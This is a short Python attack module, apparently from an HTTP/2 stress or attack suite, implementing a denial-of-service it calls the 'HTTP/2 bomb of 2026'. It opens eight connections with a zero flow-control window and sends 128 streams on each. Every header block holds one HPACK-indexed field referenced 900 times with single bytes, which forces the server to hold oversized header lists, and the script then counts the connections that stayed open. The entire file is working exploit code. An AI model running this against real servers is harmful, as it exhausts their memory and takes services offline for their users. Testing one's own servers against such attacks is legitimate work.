"""Requests of a thousand fields of one byte each on the wire, on streams whose responses
may not be sent, so that every header block is kept (the HTTP/2 bomb of 2026)."""

import frames
from attack import Attack, still_open

ATTACK = Attack(configurations=("deployments", "static"))
CONNECTIONS, STREAMS = 8, range(1, 256, 2)


async def run(target):
    # One entry for the table, then references to it: 62 is the newest entry.
    head = frames.head(b"/large", more=frames.field(b"x", b"y", kept=True) + b"\xbe" * 900)
    asked = b"".join(frames.request(stream, head) for stream in STREAMS)
    opening = frames.opening({frames.INITIAL_WINDOW: 0})
    opened = await target.many(CONNECTIONS, lambda _: target.http2(opening + asked))
    await target.wait()
    return f"{len(opened)} connections with {len(STREAMS)} heads of 900 fields, {still_open(opened)} stayed"
